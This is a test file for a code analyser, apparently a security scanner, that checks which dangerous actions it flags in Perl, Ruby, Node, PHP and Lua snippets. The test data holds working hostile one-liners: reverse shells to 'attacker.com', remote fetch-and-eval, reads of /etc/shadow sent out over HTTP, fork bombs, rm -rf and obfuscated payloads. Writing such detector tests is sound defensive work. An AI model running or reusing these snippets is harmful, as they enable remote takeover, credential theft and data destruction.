import { describe, expect, test } from 'vitest';
import type { CodeLanguage } from '../../../src/shell/code/read-code.js';
import { findingsOf } from './findings-of.js';

type Rows = readonly (readonly [code: string, found: readonly string[]])[];

const perl: Rows = [
  ['exec "/bin/sh"', ['line /bin/sh']],
  ['system("ls", "-l")', ['program ls -l']],
  ['&{"system"}("id")', ['evaluate …']],
  ['"system"->("id")', ['evaluate …']],
  ['*{"main::x"} = \\&CORE::system; x("id")', ['evaluate …']],
  ['my $f = sub { print "a" }; $f->()', []],
  ['fork while fork', ['line :(){ :|:& };:']],
  ['while (1) { fork }', ['line :(){ :|:& };:']],
  ['if (fork) { wait } else { exec "id" }', ['line id']],
  ['use LWP::Simple; eval get("http://e/x")', ['fetch http://e/x', 'evaluate …']],
  ['system(split(" ", "rm -rf /x"))', ['program rm -rf /x']],
  ['system "rm -rf $x"', ['line rm -rf …']],
  ['my $c = "id"; system $c', ['line id']],
  ['$c = "i" . "d"; system($c . " -u")', ['line id -u']],
  ['system { "/bin/sh" } "sh", "-p"', ['program /bin/sh -p']],
  ['print `id`; print qx{ls}; print qx(a (b) c)', ['line id', 'line ls', 'line a (b) c']],
  ['my @a = qw(a b); system("ls", @a)', ['program ls a b']],
  ['open(F, "cat /etc/shadow|")', ['line cat /etc/shadow']],
  ['open F, "|mail root"', ['line mail root']],
  ['open(my $p, "-|", "ls", "-l")', ['program ls -l']],
  [
    'open(my $f, "<", "/etc/passwd"); open(F, ">>/tmp/x"); open(G, "+<", "/y")',
    ['read /etc/passwd', 'write /tmp/x', 'read /y', 'write /y'],
  ],
  ['open(STDIN, ">&S")', []],
  [
    'unlink "a", "b"; rename "/c", "/d"; chmod 0777, "/e"',
    ['delete a', 'delete b', 'delete /c', 'write /d', 'program chmod 777 -- /e'],
  ],
  ['unlink glob "/var/log/*"; unlink $_ for glob "/x/*"', ['delete /var/log/*', 'delete /x/*']],
  ['for my $f ("/a", "/b") { unlink $f }; chmod 04755, "/b"', ['delete /a', 'program chmod 4755 -- /b', 'delete /b']],
  ['use File::Path; rmtree("/var")', ['program rm -r -- /var']],
  ['eval "system(\'x\')"; eval { die }', ['line x']],
  ['use MIME::Base64; eval(decode_base64("c3lzdGVtKCJpZCIp"))', ['line id']],
  [
    'system(pack("H*", "6964")); system(reverse("di")); system(join("", chr(105), chr(100)))',
    ['line id', 'line id', 'line id'],
  ],
  ['s{a}{system("id")}e; s/x/y/g', ['line id']],
  ['my $f = "system"; &$f("id")', ['line id']],
  ['do "/tmp/x.pl"; require "./y.pl"; require Foo::Bar; do { 1 } while 0', ['load /tmp/x.pl', 'load ./y.pl']],
  ['print "@{[ system(\'id\') ]}"', ['line id']],
  [
    'use Socket;$i="attacker.com";$p=12345;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
    ['connect attacker.com', 'line /bin/sh -i'],
  ],
  ['my $c=IO::Socket::INET->new(PeerAddr,"a:4"); system$_ while<>;', ['connect a:4', 'line …']],
  ['$s = new IO::Socket::INET(PeerAddr=>"h", PeerPort=>80)', ['connect h']],
  ['IO::Socket::INET->new(LocalPort => 80, Listen => 5)', ['listen 80']],
  ['use LWP::Simple; getstore("http://e/x", "/tmp/x")', ['fetch http://e/x', 'write /tmp/x']],
  ['exec sprintf("/bin/%s -i", "sh")', ['line /bin/sh -i']],
  ['print if /system "x"/; print "system(1)"; # exec "x"', []],
  ['while (<>) { my ($a, $b) = split /,/; print "$a $b\\n" if $a > 3; tr/a-z/A-Z/; $h{s} = 1; y/a/b/ }', []],
  ['print join(",", map { $_ * 2 } grep { $_ % 2 } 1..10), "\\n"', []],
  ['print scalar localtime; printf "%.2f\\n", 3.14', []],
];

const ruby: Rows = [
  ['loop { fork }', ['line :(){ :|:& };:']],
  ['exit if fork; while x = gets; puts x; end', []],
  ['exec "/bin/sh"', ['line /bin/sh']],
  ['system("ls", "-l"); spawn({"A" => "b"}, "id")', ['program ls -l', 'line id']],
  ['puts `id`; x = %x(ls -l)', ['line id', 'line ls -l']],
  ['Kernel.send(:system, "id"); method(:system).call("ls")', ['line id', 'line ls']],
  ['IO.popen(["id", "-u"]); IO.popen("id", "r+")', ['program id -u', 'line id']],
  ['require "open3"; Open3.capture2("id")', ['line id']],
  ['open("|id").read; open("/etc/shadow").read', ['line id', 'read /etc/shadow']],
  ['puts File.read("/etc/shadow"); File.write("/x", "y")', ['read /etc/shadow', 'write /x']],
  ['File.open("/etc/cron.d/x", "w+") { |f| f.write("DATA") }', ['write /etc/cron.d/x']],
  [
    'require "fileutils"; FileUtils.rm_rf "/var"; File.delete("/a", "/b"); File.chmod(0777, "/c")',
    ['program rm -r -- /var', 'delete /a', 'delete /b', 'program chmod 777 -- /c'],
  ],
  [
    'include FileUtils; rm_rf "/var"; rm ["/a"], verbose: true; system("rm -rf /b")',
    ['program rm -r -- /var', 'delete /a', 'line rm -rf /b'],
  ],
  [
    'c=TCPSocket.new("attacker.com",12345);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
    ['connect attacker.com', 'line …'],
  ],
  ['require "socket"; s=TCPServer.new(4444)', ['listen 4444']],
  ['require "net/http"; Net::HTTP.get(URI("http://e/x"))', ['fetch http://e/x']],
  ['require "open-uri"; eval(URI.open("http://x/y").read)', ['fetch http://x/y', 'evaluate …']],
  ['eval("c3lzdGVtKCJpZCIp".unpack("m")[0]); eval ["c3lzdGVtKCJpZCIp"].first.unpack1("m")', ['line id', 'line id']],
  ['system ["6964"].pack("H*"); system "di".reverse', ['line id', 'line id']],
  ['require "fiddle"; Fiddle.dlopen("/tmp/x.so")', ['load /tmp/x.so']],
  ['require "./x"; load "/tmp/y.rb"; require "json"', ['load ./x.rb', 'load /tmp/y.rb']],
  ['"#{system(\'id\')}"', ['line id']],
  ['puts [1,2].map { |x| x * 2 }.join(","); h = { a: 1, :b => 2 }; puts h[:a] ? "y" : "n"', []],
  ['ARGF.each_line { |l| puts l.split(":")[0] if l =~ /root"x/ } # system "x"', []],
  ["require 'json'; puts JSON.parse(STDIN.read)['system']", []],
  ['text = <<~EOS\n  system("id")\nEOS\nputs text', []],
];

const node: Rows = [
  [
    'require("https").get("https://e/x", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => eval(d)) })',
    ['fetch https://e/x', 'evaluate …'],
  ],
  ['require("child_process").execSync("id")', ['line id']],
  [
    'const {exec: e, spawn} = require("node:child_process"); e(`rm -rf ${"/" + "x"}`); spawn("ls", ["-l"], {shell: true})',
    ['line rm -rf /x', 'line ls -l'],
  ],
  ['const cp = require("child_process"); cp.spawnSync("ls", ["-l", "/"])', ['program ls -l /']],
  [
    'import fs, { readFile as r } from "fs"; import * as cp from "child_process"; r("/etc/passwd"); fs.rmSync("/var", {recursive: true}); cp.exec("id")',
    ['read /etc/passwd', 'program rm -r -- /var', 'line id'],
  ],
  ['import("child_process").then(c => c.execSync("id"))', ['line id']],
  ['global.process.mainModule.require("child_process").execSync("id")', ['line id']],
  ['process.binding("spawn_sync").spawn({file: "/bin/sh", args: ["sh", "-c", "id"]})', ['program /bin/sh -c id']],
  ['require("ch" + "ild_process")["ex" + "ec"]("id")', ['line id']],
  ["(0, eval)(\"require('child_process').exec('id')\")", ['line id']],
  ["new Function(\"return require('child_process').execSync('id')\")()", ['line id']],
  ['eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp", "base64").toString())', ['line id']],
  [
    'require("child_process").exec(String.fromCharCode(105, 100)); require("child_process").exec(["i", "d"].join(""))',
    ['line id', 'line id'],
  ],
  ['fetch("http://e/x").then(r => r.text()).then(eval)', ['fetch http://e/x', 'evaluate …']],
  [
    'require("fs").createReadStream("/etc/shadow").pipe(require("http").request("http://e/p"))',
    ['read /etc/shadow', 'fetch http://e/p'],
  ],
  ['require("fs").promises.writeFile("/x", "y"); require("fs/promises").unlink("/z")', ['write /x', 'delete /z']],
  ['require("net").connect(12345, "attacker.com", function () { this.pipe(sh.stdin) })', ['connect attacker.com']],
  ['var net = require("net"); var c = new net.Socket(); c.connect(80, "10.0.0.1")', ['connect 10.0.0.1']],
  ['require("http").createServer((q, r) => r.end("ok")).listen(8080)', ['listen 8080']],
  [
    'Deno.readTextFileSync("/etc/shadow"); new Deno.Command("id", {args: ["-u"]}); Bun.spawn(["ls", "-l"])',
    ['read /etc/shadow', 'program id -u', 'program ls -l'],
  ],
  ['await $`id`', ['line id']],
  ['require("./x"); require("/tmp/y"); require("./z.node")', ['load ./x.js', 'load /tmp/y.js', 'load ./z.node']],
  [
    'console.log(JSON.stringify({a: 1, exec: [1, 2]})); [1, 2].map(x => x * 2).join(","); "abc".replace(/a"b/g, "x")',
    [],
  ],
  ['// require("child_process").exec("x")\n/* eval("x") */ console.log("exec(1)", 4 / 2 / 1)', []],
  ['/a/.exec("abc"); new RegExp("x").exec("y"); Math.max(1, 2); process.exit(0)', []],
];

const php: Rows = [
  ['<?php echo shell_exec("/bin/sh"); ?>', ['line /bin/sh']],
  ['system("id"); exec("a", $r); passthru("b"); popen("c", "r")', ['line id', 'line a', 'line b', 'line c']],
  [
    'proc_open("/bin/sh", array(array("pipe", "r")), $p); pcntl_exec("/bin/sh", ["-p"])',
    ['line /bin/sh', 'program /bin/sh -p'],
  ],
  ['echo `id`;', ['line id']],
  ['$f = "sys" . "tem"; $f("id $x"); ("sys"."tem")("ls");', ['line id …', 'line ls']],
  [
    'call_user_func("pass"."thru", "ls"); array_map("system", array("q")); call_user_func_array("system", ["z"]);',
    ['line ls', 'line q', 'line z'],
  ],
  [
    'eval(base64_decode("c3lzdGVtKCJpZCIpOw==")); assert("system(\'z\')"); preg_replace("/.*/e", "system(\'y\')", "");',
    ['line id', 'line z', 'line y'],
  ],
  [
    'system(chr(105).chr(100)); system(strrev("di")); system(str_rot13("vq")); system(hex2bin("6964"));',
    ['line id', 'line id', 'line id', 'line id'],
  ],
  [
    'echo file_get_contents("http://e/x"); file_get_contents("php://filter/read=x/resource=/etc/shadow"); file_get_contents("php://stdin");',
    ['fetch http://e/x', 'read /etc/shadow'],
  ],
  [
    'file_put_contents("/x", "y"); unlink("/z"); chmod("/c", 0777); copy("/a", "/b"); fopen("/w", "w");',
    ['write /x', 'delete /z', 'program chmod 777 -- /c', 'read /a', 'write /b', 'write /w'],
  ],
  [
    'include "/tmp/x.php"; require_once("a.php"); include "data:text/plain,<?php system(\'id\');";',
    ['load /tmp/x.php', 'load a.php', 'line id'],
  ],
  [
    '$sock=fsockopen("attacker.com",12345);exec("/bin/sh -i 0<&3 1>&3 2>&3");',
    ['connect attacker.com', 'line /bin/sh -i 0<&3 1>&3 2>&3'],
  ],
  ['$c = curl_init("http://e/x"); curl_exec($c);', ['fetch http://e/x']],
  [
    'echo json_encode(["a" => 1]); foreach ($a as $k => $v) { printf("%s\\n", $v); } $db->exec("SELECT 1"); phpinfo(); // system("x")',
    [],
  ],
  ['echo date("Y"), PHP_VERSION, "system(\'x\')", strlen($x);', []],
];

const lua: Rows = [
  ['os.execute("/bin/sh")', ['line /bin/sh']],
  ['io.popen("id"):read("*a"); os["exe".."cute"]("ls"); _G["os"].execute [[x]]', ['line id', 'line ls', 'line x']],
  ['load("os.execute(\'x\')")(); loadstring"os.remove(\'q\')"()', ['line x', 'delete q']],
  [
    'local f=io.open("/etc/shadow", "rb"); print(f:read("*a")); io.open("/x","w"):write("x")',
    ['read /etc/shadow', 'write /x'],
  ],
  [
    'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4242);local f=assert(io.popen(r,"r"))',
    ['connect 10.0.0.1', 'line …'],
  ],
  [
    'os.execute(string.char(105, 100)); os.execute(("di"):reverse()); dofile("/tmp/x.lua"); package.loadlib("/tmp/x.so", "f")',
    ['line id', 'line id', 'load /tmp/x.lua', 'load /tmp/x.so'],
  ],
  [
    'local h, p = "10.0.0.1", 42 local t = require("socket").tcp() t:connect(h, p) while true do local c, s = t:receive() local f = io.popen(c) end',
    ['connect 10.0.0.1', 'line …'],
  ],
  ['print("hi" .. 1) -- os.execute("x")\n--[[ os.execute("y") ]] print(os.time(), #arg)', []],
];

const tables: readonly [CodeLanguage, Rows][] = [
  ['perl', perl],
  ['ruby', ruby],
  ['node', node],
  ['php', php],
  ['lua', lua],
];

describe.each(tables)('%s', (language, rows) => {
  test.each(rows)('%s', (code, found) => {
    expect(findingsOf(language, code)).toEqual(found);
  });
});
